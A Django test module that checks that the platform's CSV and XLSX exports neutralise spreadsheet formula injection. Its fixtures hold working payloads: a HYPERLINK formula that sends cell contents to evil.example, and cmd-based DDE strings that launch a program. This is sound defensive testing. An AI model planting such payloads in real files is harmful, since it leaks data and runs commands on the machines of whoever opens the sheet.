"""Every spreadsheet the platform hands out (CSV and XLSX) neutralises formula injection: a cell
that a person typed and that starts with =, +, -, @, a tab or a carriage return comes out as text.

Hostile values go into the data behind each export; the download is parsed back and every cell
is checked.
"""

import csv
import io
import re

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from initiatives.models import Visibility
from tests.factories import InitiativeFactory

pytestmark = pytest.mark.django_db

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells_of_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def cells_of_xlsx(body: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(body), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def formula_cells(rows: list[list]) -> list[str]:
    return [c for row in rows[1:] for c in row if isinstance(c, str) and c.startswith(PREFIXES)]


def neutralised(rows: list[list], value: str) -> bool:
    return any(c == "'" + value for row in rows for c in row)


def body_of(response) -> bytes:
    if response.streaming:
        return b"".join(
            c if isinstance(c, bytes) else c.encode() for c in response.streaming_content
        )
    return response.content


@pytest.fixture
def moderator_client(moderator_with_totp):
    client = Client()
    client.force_login(moderator_with_totp)
    return client


def test_the_registry_downloads_neutralise_formulas(client):
    InitiativeFactory(
        name=HOSTILE[0],
        acronym=HOSTILE[1][:20],
        city=HOSTILE[2],
        managing_organisation=HOSTILE[3],
        legal_form=HOSTILE[4],
        territory=HOSTILE[5],
        contact_email="=1+1@example.org",
        contact_email_visibility=Visibility.PUBLIC,
        website="https://example.org/=1",
    )
    csv_rows = cells_of_csv(body_of(client.get(reverse("initiatives:export", args=["csv"]))))
    xlsx_rows = cells_of_xlsx(body_of(client.get(reverse("initiatives:export", args=["xlsx"]))))
    for rows in (csv_rows, xlsx_rows):
        assert len(rows) == 2
        assert formula_cells(rows) == []
        assert neutralised(rows, HOSTILE[0]) and neutralised(rows, HOSTILE[3])
        assert neutralised(rows, "=1+1@example.org")
    assert neutralised(csv_rows, HOSTILE[4])  # XLSX may drop the control character itself


def test_the_meetings_statistics_csv_neutralises_formulas(moderator_client):
    from tests.meetings.factories import MeetingFactory, RegistrationFactory

    for value in HOSTILE:
        meeting = MeetingFactory(title_es=value, title_en=value, title_pt_br=value)
        RegistrationFactory(meeting=meeting, attended=True, organisation=value)
    response = moderator_client.get(reverse("meetings:staff_statistics_csv"))
    assert response.status_code == 200
    rows = cells_of_csv(body_of(response))
    assert len(rows) == len(HOSTILE) + 1
    assert formula_cells(rows) == []
    assert neutralised(rows, HOSTILE[0])


def test_the_subscriber_export_neutralises_formulas(moderator_client):
    from tests.newsletter.factories import SubscriberFactory

    for n, value in enumerate(HOSTILE):
        SubscriberFactory(
            email=f"reader{n}@example.org",
            name=value[:120],
            consent_text_version=value[:40],
            consent_source_detail=value[:300],
            suppressed_reason=value[:20],
        )
    response = moderator_client.get(reverse("newsletter:staff_export"))
    assert response.status_code == 200
    rows = cells_of_csv(body_of(response))
    assert len(rows) == len(HOSTILE) + 1
    assert formula_cells(rows) == []
    assert neutralised(rows, HOSTILE[1])


def test_a_subscriber_import_with_formulas_comes_back_neutralised(
    moderator_client, django_capture_on_commit_callbacks
):
    """The round trip staff actually make: a CSV with formulas in, the export out (and the
    import's report of refused lines, which repeats what the file said)."""
    data = (
        b"email,name\n"
        b'formula@example.org,"=HYPERLINK(""https://evil.example"",""x"")"\n'
        b"plus@example.org,+cmd|' /C calc'!A0\n"
        b"=1+1,bad line\n"
    )
    from django.core.files.uploadedfile import SimpleUploadedFile

    from newsletter.models import SubscriberImport

    with django_capture_on_commit_callbacks(execute=True):
        response = moderator_client.post(
            reverse("newsletter:staff_import"),
            {
                "file": SimpleUploadedFile("list.csv", data, content_type="text/csv"),
                "consent_source": "@Workshop sign-up sheet",
                "consent_documented": "on",
            },
        )
    assert response.status_code == 302
    job = SubscriberImport.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        moderator_client.post(reverse("newsletter:staff_import_start", args=[job.pk]))
    rows = cells_of_csv(body_of(moderator_client.get(reverse("newsletter:staff_export"))))
    assert len(rows) == 3
    assert formula_cells(rows) == []
    refused = moderator_client.get(reverse("newsletter:staff_import_refused", args=[job.pk]))
    rows = cells_of_csv(body_of(refused))
    assert len(rows) == 2
    assert formula_cells(rows) == []


def admin_export(admin_class_model, fmt, rf, user):
    """An admin export as the admin's export view produces it (get_export_data)."""
    from django.contrib import admin as django_admin
    from import_export.formats import base_formats

    model_admin = django_admin.site._registry[admin_class_model]
    request = rf.get("/admin/")
    request.user = user
    file_format = {"csv": base_formats.CSV, "xlsx": base_formats.XLSX}[fmt]()
    body = model_admin.get_export_data(
        file_format, request, model_admin.get_queryset(request), encoding="utf-8"
    )
    return cells_of_csv(body) if fmt == "csv" else cells_of_xlsx(body)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_admin_exports_neutralise_formulas(rf, moderator, fmt):
    from initiatives.models import Initiative, Sector
    from tests.factories import SectorFactory

    SectorFactory(
        slug="hostile-sector", name_es=HOSTILE[0], name_en=HOSTILE[0], name_pt_br=HOSTILE[0]
    )
    InitiativeFactory(name=HOSTILE[0], acronym=HOSTILE[1][:20], city=HOSTILE[2], latitude=-33.45)
    for model in (Sector, Initiative):
        rows = admin_export(model, fmt, rf, moderator)
        assert len(rows) >= 2
        assert [c for c in formula_cells(rows) if not PLAIN_NUMBER.fullmatch(c)] == [], model
        assert neutralised(rows, HOSTILE[0]), model
        assert neutralised(rows, HOSTILE[1][:20]) or model is Sector
    # A negative number stays a number, so that the export imports back.
    header, row = admin_export(Initiative, "csv", rf, moderator)[:2]
    assert dict(zip(header, row, strict=True))["latitude"] == "-33.45000"


def test_every_admin_export_goes_through_the_neutraliser():
    from django.contrib import admin as django_admin
    from import_export.admin import ExportMixin

    from iapt_platform.lib.admin import FormulaSafeExportMixin

    exporting = [a for a in django_admin.site._registry.values() if isinstance(a, ExportMixin)]
    assert len(exporting) >= 5
    unsafe = [type(a).__name__ for a in exporting if not isinstance(a, FormulaSafeExportMixin)]
    assert unsafe == []
